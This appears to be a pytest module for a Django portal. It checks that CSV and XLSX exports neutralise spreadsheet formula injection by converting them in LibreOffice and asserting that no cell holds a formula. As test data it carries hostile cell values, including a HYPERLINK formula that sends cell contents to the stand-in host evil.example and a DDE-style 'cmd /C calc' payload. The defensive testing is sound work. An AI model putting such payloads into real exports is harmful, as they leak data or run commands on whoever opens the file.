"""Exports opened in a real spreadsheet: LibreOffice Calc runs no formula from an upload.

Each export is converted by ``soffice --headless`` from CSV to XLSX with formula
evaluation switched on, then read back with openpyxl: no cell may be a formula,
a neutralised cell keeps its value behind the leading apostrophe, and every
other value arrives exactly as it was. A control file written without
neutralising shows that the same conversion does run formulas.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import uuid
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from conftest import make_participant
from imports.models import ImportBatch
from prap_portal.spreadsheet import FORMULA_TRIGGERS, csv_lines

from .bundles import HEADER, csv_bytes, row, zip_bytes
from .test_views import signed_in

pytestmark = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice is not installed"
)

# Comma, double quote, UTF-8, from line 1, no column types, default language,
# quoted fields not forced to text, detect special numbers, (export options),
# and token 13: evaluate formulas, as a person opening the file would have it.
CSV_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"

HOSTILE = {
    "First Name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "Last Name": "+44 7700 900123",
    "Programme": "@SUM(A1:A9)",
    "Address Line 1": "-1+2",
}


def open_in_calc(csv_text: bytes, tmp_path: Path) -> list[tuple[object, str]]:
    """Every cell LibreOffice makes of the CSV, as (value, openpyxl data type), row by row."""
    work = tmp_path / f"calc-{uuid.uuid4().hex}"
    work.mkdir()
    source = work / "export.csv"
    source.write_bytes(csv_text)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{work / 'profile'}",
            "--headless",
            "--norestore",
            f"--infilter={CSV_IMPORT}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(work / "out"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheet = load_workbook(work / "out" / "export.xlsx").active
    return [[(cell.value, cell.data_type) for cell in cells] for cells in sheet.iter_rows()]


def _upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("bundle.zip", content, content_type="application/zip")


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def assert_no_formula(cells: list[list[tuple[object, str]]]) -> None:
    formulas = [value for line in cells for value, kind in line if kind == "f"]
    assert formulas == []


def expected_in_calc(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def test_the_conversion_runs_formulas_that_are_not_neutralised(tmp_path):
    # Without this, a conversion that never evaluates anything would pass every test below.
    raw = io.StringIO()
    csv.writer(raw).writerows([["Name"], ["=1+1"], ['=HYPERLINK("http://x","y")']])
    cells = open_in_calc(raw.getvalue().encode(), tmp_path)
    assert [kind for ((_, kind),) in cells[1:]] == ["f", "f"]


def test_safe_csv_lines_round_trip_every_value_through_calc(tmp_path):
    values = [
        *HOSTILE.values(),
        "\tcmd",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
        'Comma, "quote" and\r\nline break',
        "a=b",
        "'already quoted",
        "Siân Ŵyn £5 é",
        "07700900123",
        "",
    ]
    text = "".join(csv_lines(["Value"], [[v] for v in values])).encode("utf-8")
    cells = open_in_calc(text, tmp_path)
    assert_no_formula(cells)
    got = [value if value is not None else "" for ((value, _),) in cells[1:]]
    # Calc keeps a line break inside a cell as a line feed, as Excel does.
    expected = [expected_in_calc(v).replace("\r\n", "\n").replace("\r", "\n") for v in values]
    assert got[:11] == expected[:11]
    # A column of digits is a number to a spreadsheet; the export keeps it as text.
    assert got[11] in ("07700900123", 7700900123)


@pytest.fixture
def importer_client(importer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return signed_in(importer)


def test_the_errors_csv_opens_in_calc_without_running_anything(importer_client, tmp_path):
    header = [*HEADER, "Address Line 1"]
    rows = [
        row(1, PO_Number="=1+1", **{k.replace(" ", "_"): v for k, v in HOSTILE.items()}),
        row(2, Postcode="=2+3", Last_Name="@SUM(A1)"),
        row(3, Email_Address="-2+3@example"),
    ]
    content = zip_bytes({"=evil.csv": csv_bytes(rows, header=header)})
    importer_client.post(
        reverse("imports-upload"),
        {"bundle": _upload(content), "create_new": "on"},
    )
    batch = ImportBatch.objects.get()
    export = body(importer_client.get(reverse("imports-errors-csv", args=[batch.pk])))
    cells = open_in_calc(export, tmp_path)
    assert_no_formula(cells)
    values = [[value for value, _ in line] for line in cells]
    assert values[0] == ["PO Number", "File", "Line", "Column", "Code", "Error"]
    assert values[1:] == [
        [
            "'=1+1",
            "'=evil.csv",
            2,
            "PO Number",
            "po_number.format",
            "'=1+1' is not a valid PO number (letters, digits, - and / only, at most 30).",
        ],
        [
            "PO-00002",
            "'=evil.csv",
            3,
            "Postcode",
            "postcode.format",
            "'=2+3' is not a valid UK postcode.",
        ],
        [
            "PO-00003",
            "'=evil.csv",
            4,
            "Email Address",
            "email.format",
            "'-2+3@example' is not a valid email address.",
        ],
    ]
    # The same bytes read by a CSV reader: RFC 4180 quoting intact, one value per cell.
    parsed = list(csv.reader(io.StringIO(export.decode("utf-8-sig"))))
    assert len(parsed) == len(values)
    assert all(len(line) == 6 for line in parsed)


def test_the_successes_csv_opens_in_calc_without_running_anything(importer_client, tmp_path):
    header = [*HEADER, "Address Line 1"]
    rows = [
        row(1, **{k.replace(" ", "_"): v for k, v in HOSTILE.items()}),
        row(2, First_Name="-Zed", Last_Name="=1+1", Email_Address=""),
    ]
    importer_client.post(
        reverse("imports-upload"),
        {
            "bundle": _upload(zip_bytes({"a.csv": csv_bytes(rows, header=header)})),
            "create_new": "on",
        },
    )
    batch = ImportBatch.objects.get()
    assert batch.accepted_count == 2
    importer_client.post(reverse("imports-commit", args=[batch.pk]))
    export = body(importer_client.get(reverse("imports-successes-csv", args=[batch.pk])))
    cells = open_in_calc(export, tmp_path)
    assert_no_formula(cells)
    values = [[value for value, _ in line] for line in cells]
    assert values[0] == [
        "PO Number",
        "Action",
        "Username",
        "First Name",
        "Last Name",
        "Email",
        "NINO",
    ]
    assert values[1] == [
        "PO-00001",
        "Created",
        "alice1@example.com",
        expected_in_calc(HOSTILE["First Name"]),
        "'+44 7700 900123",
        "alice1@example.com",
        "QQ000001C",
    ]
    assert values[2][3:5] == ["'-Zed", "'=1+1"]


def test_the_report_export_opens_in_calc_without_running_anything(client, supervisor, tmp_path):
    make_participant(
        nino="QQ999999C",
        first_name=HOSTILE["First Name"],
        last_name="@SUM(A1)",
        town="-1+2",
        programme="+Work",
    )
    client.force_login(supervisor)
    fields = ["first_name", "last_name", "town", "programme"]
    response = client.get(
        f"{reverse('reporting-export-csv')}?{urlencode([('fields', f) for f in fields])}"
    )
    assert response.status_code == 200
    cells = open_in_calc(body(response), tmp_path)
    assert_no_formula(cells)
    values = [[value for value, _ in line] for line in cells]
    assert values == [
        ["First Name", "Last Name", "Town", "Programme"],
        [expected_in_calc(HOSTILE["First Name"]), "'@SUM(A1)", "'-1+2", "'+Work"],
    ]


def test_the_report_xlsx_export_holds_no_formula_cell(client, supervisor):
    make_participant(nino="QQ999999C", first_name="=1+1", last_name="@SUM(A1)", town="-1+2")
    client.force_login(supervisor)
    fields = ["first_name", "last_name", "town"]
    response = client.get(
        f"{reverse('reporting-export-xlsx')}?{urlencode([('fields', f) for f in fields])}"
    )
    sheet = load_workbook(io.BytesIO(body(response))).active
    cells = [(cell.value, cell.data_type) for line in sheet.iter_rows() for cell in line]
    assert [kind for _, kind in cells if kind == "f"] == []
    assert [value for value, _ in cells][3:] == ["'=1+1", "'@SUM(A1)", "'-1+2"]
